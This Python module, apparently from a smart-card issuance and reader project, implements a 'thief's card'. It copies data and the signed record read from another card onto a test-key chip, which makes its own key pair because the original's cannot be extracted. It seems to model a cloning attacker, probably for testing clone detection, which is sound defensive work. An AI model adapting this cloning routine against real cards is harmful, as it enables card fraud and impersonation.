"""A thief's card: a chip of his own, filled with everything that can be read from another."""

from collections.abc import Callable

from crypto.keys import KeySet
from issuance.personalization import (
    CardData,
    application_script,
    generate_chip_key,
    record_groupings,
    store_data_blocks,
)
from reader.card_profile.df0a import CHIP_KEY_REFERENCE, DF0A
from reader.card_profile.profiles import CardProfile
from reader.card_profile.ssse import SSSE
from reader.global_platform import ISD_AID, install_for_personalization
from reader.iso7816.apdu import CommandApdu, ResponseApdu
from reader.iso7816.commands import select_aid
from reader.iso7816.status import SW, StatusError
from reader.secure_channel import open_channel
from reader.transport import GetResponse, Transport

TEST_KEY = bytes(range(0x40, 0x50))  # of the chips that anybody can buy
NO_KEY = bytes(16)  # he has none of the issuer's


def copy_onto(
    transport: Transport,
    profile: CardProfile,
    data: CardData,
    record: bytes,
    random: Callable[[int], bytes],
) -> None:
    """Write what was read from a card, its signed record included, onto the chip at hand.

    The chip makes a key pair of its own: the one that the record names cannot be had.
    """
    plain = GetResponse(transport)
    _send(plain, select_aid(ISD_AID))
    keys = KeySet(TEST_KEY, TEST_KEY, TEST_KEY)
    channel = open_channel(plain, lambda identity: keys, random(8))
    ssse = profile.application(SSSE.name)
    for command in (
        *application_script(
            profile,
            ssse,
            data,
            {key.name: NO_KEY for key in ssse.keys},
            dek=TEST_KEY,
            capacity=channel.capacity,
        ),
        install_for_personalization(DF0A.aid),
        generate_chip_key(CHIP_KEY_REFERENCE),
        *store_data_blocks(
            record_groupings(record, channel.capacity), capacity=channel.capacity, first_block=1
        ),
    ):
        _send(channel, command)


def _send(transport: Transport, command: CommandApdu) -> None:
    response = ResponseApdu.decode(transport.transmit(command.encode()))
    if response.sw != SW.OK:
        raise StatusError(response.sw)
